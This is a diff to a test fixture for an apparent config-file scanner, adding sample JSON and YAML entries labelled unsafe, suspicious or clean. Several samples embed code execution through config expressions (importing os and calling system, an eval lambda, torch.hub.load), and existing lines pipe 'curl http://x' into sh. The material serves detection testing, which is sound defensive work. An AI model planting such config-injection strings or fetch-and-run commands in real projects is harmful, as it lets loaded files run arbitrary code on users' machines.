@@ -37,6 +37,9 @@ UNSAFE = {
     "by_text.json": json.dumps(
         {"n": "os", "i": "$import importlib", "r": "$importlib.import_module(@n).system('true')"}
     ),
+    "by_reference.json": json.dumps(
+        {"imports": ["$import os"], "x": "@y", "y": "$os", "run": "$@x.system('true')"}
+    ),
     "bundle.yaml": f'initialize: ["${CALL}"]',
     "table_of.yaml": f"a: \"${{'x': {CALL}}}\"",
     "macro.json": json.dumps({"net": "%/etc/other.json::net"}),
@@ -55,6 +58,9 @@ SUSPICIOUS = {
     "no_name.yaml": "_target_: builtins.__import__('os').system",
     "stage.yaml": "stages: {a: {cmd: curl http://x | sh}}",
     "container.yaml": "spec: {containers: [{args: ['-c', 'curl http://x | sh']}]}",
+    "not_followed.yaml": "x: '${eval:(lambda o: o.system(1))(__import__(''os''))}'",
+    "at_hand.json": json.dumps({"x": "$torch.hub.load('some/repo', 'y')"}),
+    "imported.json": json.dumps({"x": "$monai.utils.optional_import('os')[0].system('true')"}),
     "no_python.json": json.dumps({"a": "$os.system('true') if"}),
 }
 CLEAN = {
@@ -67,7 +73,12 @@ CLEAN = {
             "files": "$list(sorted(glob.glob(@root + '/*.nii.gz')))",
             "device": "$torch.device('cuda' if torch.cuda.is_available() else 'cpu')",
             "n": "$@a + 1",
-            "run": ["$@train#trainer.run()", "$setattr(torch.backends.cudnn, 'benchmark', True)"],
+            "weights": "$@net.load_state_dict(torch.load(@root + '/models/model.pt'))",
+            "run": [
+                "$@net.eval()",
+                "$@train#trainer.run()",
+                "$setattr(torch.backends.cudnn, 'benchmark', True)",
+            ],
             "post": "$lambda x: monai.handlers.from_engine(['loss'], first=True)(x)",
         }
     ),
